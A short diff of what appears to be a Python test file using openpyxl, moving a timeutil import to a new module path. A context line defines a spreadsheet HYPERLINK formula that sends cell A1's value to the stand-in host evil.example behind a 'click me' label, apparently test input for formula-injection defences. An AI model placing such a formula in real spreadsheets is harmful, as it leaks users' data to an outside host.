@@ -7,7 +7,7 @@ from datetime import timedelta
 
 from openpyxl import load_workbook
 
-from server.timeutil import SHANGHAI, utcnow
+from server.core.timeutil import SHANGHAI, utcnow
 
 API = "/api/v1"
 LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
